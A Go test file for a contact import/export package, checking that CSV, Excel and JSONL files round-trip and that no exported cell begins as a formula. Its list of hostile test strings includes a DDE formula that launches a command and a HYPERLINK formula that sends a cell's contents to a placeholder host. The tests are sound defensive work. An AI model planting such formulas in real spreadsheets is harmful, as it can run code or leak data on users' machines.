package transfer

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"parley/desk"
)

// hostile are texts that files and spreadsheets get wrong.
var hostile = []string{
	"=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "''", "'a", "-5", "+5.5", "-5.", "--1",
	`"`, `""`, `"a"`, `a"b`, ",", ";", "|", "\t", "a,b;c|d\te", " a", "a ", "a\r\nb", "a\nb", "a\rb", "\r\n", "sep=;", "\uFEFFa", "a\u00A0", "\u2028", "\u202Eabc",
	"null", "true", "[]", "[1]", `{"a":1}`, `\`, `\n`, "\\u0041", "\u0001\u001F", "905321234567.0", "9.05E+11", "31.12.2026", "1.234,5", "0123", "=cmd|' /C calc'!A0",
	`=HYPERLINK("https://x.example/?"&A1,"a")`, "Ünsal Ş. İğ", "मीना", "李雷", "👩‍👩‍👧", "\uFFFD", "\uFFFF", "%s%d", "_line", "-", "#REF!",
}

// contactsFile returns a file of contacts.
func contactsFile(t *testing.T, format Format, contacts []*desk.Contact) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := NewContacts(&b, format, attributes)
	for _, c := range contacts {
		err = errors.Join(err, w.Contact(c))
	}
	if err := errors.Join(err, w.Flush()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func hostileContacts() (list []*desk.Contact) {
	for n, text := range hostile {
		trimmed := strings.TrimSpace(text)
		c := &desk.Contact{ID: desk.ID{byte(n)}, ExternalID: fmt.Sprint(n, trimmed), Name: trimmed, Note: trimmed + "\n" + trimmed, CreatedAt: 1, UpdatedAt: desk.Time(n)}
		c.Note = strings.TrimSpace(c.Note)
		if n%2 == 0 {
			c.Phone, c.Owner = fmt.Sprint(4930000000+n), &desk.Member{Email: "=a+b@x.example"}
			c.Further = []desk.Identity{{Kind: "crm", Value: text}, {Kind: desk.KindPhone, Value: fmt.Sprint(4940000000 + n)}}
		}
		quoted := string(desk.AppendJSONString(nil, text))
		c.Attributes = desk.StoredAttributes(`{"born":"2026-12-31","city":` + quoted + `,"old":` + quoted + `,"plan":"free","score":-1.5,"topics":["a","b"],"vip":true}`)
		list = append(list, c)
	}
	return list
}

// TestContacts_roundTrip: what is written is read as the same bodies, in each format.
func TestContacts_roundTrip(t *testing.T) {
	t.Parallel()
	contacts := hostileContacts()
	for _, format := range []Format{CSV, Excel, JSONL} {
		content := contactsFile(t, format, contacts)
		got, err := bodies(t, content, Options{JSONL: format == JSONL})
		if err != nil || len(got) != len(contacts) {
			t.Fatalf("format %d: %d rows, %v", format, len(got), err)
		}
		for n, c := range contacts {
			_, body, _ := strings.Cut(got[n], " ")
			want := map[string]any{"external_id": c.ExternalID, "name": c.Name, "note": c.Note, "attributes": map[string]any{
				"born": "2026-12-31", "city": hostile[n], "plan": "free", "score": "-1.5", "topics": []any{"a", "b"}, "vip": true,
			}}
			if c.Phone != "" {
				want["phone"], want["owner"] = "+"+c.Phone, c.Owner.Email
				want["identities"] = []any{map[string]any{"kind": "crm", "value": hostile[n]}, map[string]any{"kind": "phone", "value": "+" + c.Further[1].Value}}
			}
			for name, value := range want {
				if value == "" {
					delete(want, name)
				}
			}
			var read map[string]any
			if err := json.Unmarshal([]byte(strings.Replace(body, `"score":-1.5`, `"score":"-1.5"`, 1)), &read); err != nil || !reflect.DeepEqual(read, want) {
				t.Errorf("format %d, %q: %s, want %v", format, hostile[n], body, want)
			}
		}
	}
}

// TestContacts_cells: nothing in a file begins as a formula, and no contact is more than its
// columns.
func TestContacts_cells(t *testing.T) {
	t.Parallel()
	for _, format := range []Format{CSV, Excel} {
		f, err := Open(written(t, "f.csv", contactsFile(t, format, hostileContacts())), Options{Kind: desk.ImportContacts})
		if err != nil {
			t.Fatal(err)
		}
		want := "external_id,name,email,phone,note,owner,identities,attributes.born,attributes.city,attributes.plan,attributes.score,attributes.topics,attributes.vip,parley_id,parley_created_at,parley_updated_at"
		if got := strings.Join(f.Headers, ","); got != want {
			t.Errorf("columns %s, want %s", got, want)
		}
		if err := f.Columns(attributes); err != nil {
			t.Fatal(err)
		}
		if err := f.Each(0, func(r Row) error {
			for _, cell := range r.Cells {
				if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 && !plainNumber.MatchString(cell) {
					t.Errorf("%q begins as a formula", cell)
				}
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
	raw := string(contactsFile(t, CSV, []*desk.Contact{{Note: "a;b", Name: "a\tb", ExternalID: "a b", CreatedAt: 1, UpdatedAt: 2}}))
	if _, row, _ := strings.Cut(raw, "\r\n"); !strings.HasPrefix(row, "a b,\"a\tb\",,,\"a;b\",,,") || !strings.HasSuffix(row, ",1970-01-01T00:00:00.001Z,1970-01-01T00:00:00.002Z\r\n") {
		t.Errorf("%q", row)
	}
	if excel := contactsFile(t, Excel, nil); !bytes.HasPrefix(excel, []byte("\xFF\xFEe\x00x\x00")) || !bytes.Contains(excel, []byte("d\x00\t\x00n\x00")) {
		t.Errorf("%q", excel[:40])
	}
	line := string(contactsFile(t, JSONL, []*desk.Contact{{ExternalID: "1", Attributes: desk.StoredAttributes(`{"old":"x"}`), CreatedAt: 1, UpdatedAt: 2}}))
	if line != `{"external_id":"1","parley_id":"00000000-0000-0000-0000-000000000000","parley_created_at":"1970-01-01T00:00:00.001Z","parley_updated_at":"1970-01-01T00:00:00.002Z"}`+"\n" {
		t.Error(line)
	}
}

// TestSelect_spaces: an option may begin or end with spaces.
func TestSelect_spaces(t *testing.T) {
	t.Parallel()
	c := converter{fields: []field{{attribute, "a"}}, attributes: map[string]*desk.Attribute{"a": {Type: desk.SelectAttribute, Options: []string{" ", " x", "y"}}}}
	for cell, want := range map[string]string{" ": `{"attributes":{"a":" "}}`, " x": `{"attributes":{"a":" x"}}`, " y ": `{"attributes":{"a":"y"}}`, "  ": `{}`} {
		if got, err := c.body([]string{cell}); string(got) != want || err != nil {
			t.Errorf("%q: %s, %v", cell, got, err)
		}
	}
}

// TestOptOuts_roundTrip: opt-outs are read as they were written.
func TestOptOuts_roundTrip(t *testing.T) {
	t.Parallel()
	for _, format := range []Format{CSV, Excel, JSONL} {
		var b bytes.Buffer
		w, err := NewOptOuts(&b, format)
		if err = errors.Join(err, w.OptOut(desk.OptOutRow{Number: "49301234567", Since: 5, OptedOut: true}), w.Flush()); err != nil {
			t.Fatal(err)
		}
		got, err := bodies(t, b.Bytes(), Options{Kind: desk.ImportOptOuts, JSONL: format == JSONL})
		if want := `{"phone":"+49301234567","since":"1970-01-01T00:00:00.005Z","opted_out":`; err != nil || len(got) != 1 || !strings.Contains(got[0], want) || !slices.ContainsFunc([]string{`true}`, `"true"}`}, func(end string) bool { return strings.HasSuffix(got[0], want+end) }) {
			t.Errorf("format %d: %q, %v", format, got, err)
		}
	}
}

// TestErasures: only a file of erasures is read as one.
func TestErasures(t *testing.T) {
	t.Parallel()
	const line = `{"id":"01980000-0000-7000-8000-000000000001","at":"2026-01-31T09:30:00.000Z"}`
	var got []desk.Erasure
	read := func(content string) error {
		got = nil
		return Erasures(strings.NewReader(content), func(e desk.Erasure) error { got = append(got, e); return nil })
	}
	if err := read(line + "\r\n\n" + line); err != nil || len(got) != 2 || got[1].ID.String() != "01980000-0000-7000-8000-000000000001" || got[1].At.String() != "2026-01-31T09:30:00.000Z" {
		t.Errorf("%v, %v", got, err)
	}
	for _, wrong := range []string{
		`{"id":"01980000-0000-7000-8000-000000000001"}`, `{"at":"2026-01-31T09:30:00.000Z"}`, strings.Replace(line, "}", `,"text":""}`, 1), "id,at", "[]", "null", line + line,
		`{"id":"x","at":"2026-01-31T09:30:00.000Z"}`, strings.Replace(line, "2026-01-31T", "", 1), strings.Repeat(" ", maxErasure) + line,
	} {
		if e := (*FileError)(nil); !errors.As(read(line+"\n"+wrong), &e) || e.Line != 2 {
			t.Errorf("%.60q: %v", wrong, e)
		}
	}
}
